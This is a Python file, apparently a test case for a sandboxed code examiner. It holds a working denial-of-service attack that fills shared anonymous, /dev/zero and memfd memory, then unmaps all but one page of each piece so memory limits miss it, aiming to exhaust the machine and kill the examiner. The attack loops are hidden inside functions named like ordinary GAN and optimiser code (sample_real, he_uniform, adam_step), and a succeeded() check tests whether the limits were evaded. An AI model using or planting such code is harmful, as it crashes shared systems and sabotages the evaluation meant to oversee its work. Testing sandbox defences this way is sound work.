"""Fills memory that is shared and has no file, then gives back all but one page of each piece: nobody counts the rest.

Aim: a machine out of memory, which then ends the examiner.
Defence: seccomp, limits
Control: without seccomp
Part: function_gan
"""

import ctypes
import mmap
import os

SIZE, PIECES = 32 << 20, 12
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]


def keep(flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS, descriptor=-1):
    """Fill a piece and keep one page of it."""
    start = libc.mmap(None, SIZE, 3, flags, descriptor, 0)
    if start == ctypes.c_void_p(-1).value:
        raise OSError(ctypes.get_errno(), "mmap")
    ctypes.memset(start, 1, SIZE)
    libc.munmap(start + 4096, SIZE - 4096)


def forever(*how):
    while True:
        try:
            keep(*how)
        except OSError:
            pass


def sample_real(n, curve, rng):
    forever()


def he_uniform(shape, rng):
    forever(mmap.MAP_SHARED, os.open("/dev/zero", os.O_RDWR))


def adam_step(params, grads, state, **options):
    forever(mmap.MAP_SHARED, os.memfd_create("attack"))


def succeeded():
    for _ in range(PIECES):
        keep()
    with open("/proc/self/statm") as file:
        pages = int(file.read().split()[1])
    return pages * mmap.PAGESIZE < 2 * SIZE * PIECES + (1 << 30)
